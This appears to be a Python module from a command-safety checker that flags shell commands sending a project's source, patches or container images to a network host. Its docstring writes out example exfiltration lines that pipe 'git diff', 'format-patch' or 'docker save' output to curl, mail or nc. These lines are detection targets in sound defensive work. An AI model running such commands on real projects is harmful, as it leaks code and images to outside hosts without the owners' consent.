"""The project's source and artifacts as data, sent to another machine (``shell.repo-export``).

``git diff HEAD~5 | curl -d @- https://x``, ``git format-patch -3 --stdout | mail a@x``,
``docker save app:prod | gzip | curl -T - https://x``: a command that prints the project's
code (its changes, its history as patches, files at a revision) or its built image, piped,
captured or written to a file that a network tool then sends. Like ``git push URL`` (and an
archive of the working tree, ``tar czf - . | nc h p``) it moves the project to a host the
command names: warn, a human should look. The source kind is ``"tree"``, the kind the
working-tree archives carry, so every rule that follows one follows the other.

* :func:`project_source`: ``git diff`` / ``git show`` / ``git log -p`` / ``git stash show
  -p`` / ``git format-patch --stdout`` print code (``--stat``, ``--name-only``,
  ``--name-status``, ``--numstat``, ``--shortstat``, ``--quiet`` print names or counts: no
  code); ``git format-patch -o DIR`` writes the patches into DIR; ``docker|podman|nerdctl
  save`` and ``export`` print an image or a container's filesystem (``-o FILE`` writes it).
* such data reaching a network tool's stdin, a file it reads or an argument it sends warns
  (``_treeexport.tree_sent``: the same "tree" source as an archive of the working tree).
  Copy tools with a destination (``scp patch host:``, ``rsync``, ``gsutil cp``) pass: a
  named deploy or a developer's own box.

Everyday use stays quiet: ``git diff | head``, ``git diff > changes.patch``, ``git
format-patch -3 -o patches/``, ``docker save app | gzip > app.tgz``.

Cost: one frozenset lookup per command (:data:`PROJECT_PRINTERS`); git adds one word scan.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._embedded import git_sub_index
from ._files import dir_key
from ._paths import norm_path
from ._values import NO_TAINT, Source, Taint

if TYPE_CHECKING:
    from ._resolve import Invocation
    from ._walk import Run
    from ._words import Field

__all__ = ["GIT_CODE_PRINTERS", "PROJECT_PRINTERS", "project_source"]

_KIND = "tree"  # as _treeexport's archives of the working tree
_ENGINES = frozenset({"docker", "podman", "nerdctl"})
PROJECT_PRINTERS = _ENGINES | {"git"}
"""Programs :func:`project_source` looks at."""

GIT_CODE_PRINTERS = frozenset({"diff", "show", "log", "format-patch", "stash"})
"""git subcommands that can print code (:func:`project_source` reads their options)."""
# Options that make git diff/show/log print names or counts instead of code.
_NO_CODE = frozenset({"--stat", "--name-only", "--name-status", "--numstat", "--shortstat",
                      "--quiet", "--exit-code", "--summary", "--dirstat", "-s", "--no-patch",
                      "--oneline", "--raw", "--check"})
_PATCH = frozenset({"-p", "-u", "--patch", "--patch-with-stat", "--patch-with-raw"})
_MAX_FILES = 256  # as _files


def project_source(run: Run, inv: Invocation) -> Taint:
    """The ``"tree"`` taint of a command printing project code or an image (module doc);
    a file or folder it writes is recorded with it in ``run.files``."""
    args = inv.args
    if inv.name in _ENGINES:
        i = 1 if args and args[0].text in ("image", "container") else 0
        if i >= len(args) or args[i].text not in ("save", "export"):
            return NO_TAINT
        out = _value(args, ("-o", "--output"))
    else:
        i = git_sub_index(args)
        sub = args[i].text if i < len(args) else ""
        if sub not in GIT_CODE_PRINTERS:
            return NO_TAINT
        rest = [f.text for f in args[i + 1:i + 65]]
        if any(t in _NO_CODE or t.startswith(("--stat=", "--dirstat=")) for t in rest):
            return NO_TAINT
        if sub == "log" and not any(t in _PATCH for t in rest):
            return NO_TAINT  # messages and hashes, no code
        if sub == "stash" and (rest[:1] != ["show"] or not any(t in _PATCH for t in rest)):
            return NO_TAINT
        out = None
        if sub == "format-patch":
            folder = _value(args[i + 1:], ("-o", "--output-directory"))
            if "--stdout" not in rest and folder is None:
                return NO_TAINT  # 0001-*.patch in the working directory, not sent here
            where = norm_path(folder, run.cwd) if folder is not None else None
            out = dir_key(where) if where is not None else None
    taint = frozenset({Source(_KIND, inv.name, run.map_span(inv.word.span))})
    if out is not None and out != "-":
        path = out if out.endswith("*") else norm_path(out, run.cwd)
        if path is not None and (path in run.files or len(run.files) < _MAX_FILES):
            run.files[path] = run.files.get(path, NO_TAINT) | taint
    return taint


def _value(args: list[Field], names: tuple[str, ...]) -> str | None:
    for k, f in enumerate(args[:64]):
        t = f.text
        if t in names and k + 1 < len(args):
            return args[k + 1].text
        head, eq, value = t.partition("=")
        if eq and head in names:
            return value
        if len(names[0]) == 2 and t.startswith(names[0]) and len(t) > 2 and t[2] != "=":
            return t[2:]  # -oFILE
    return None

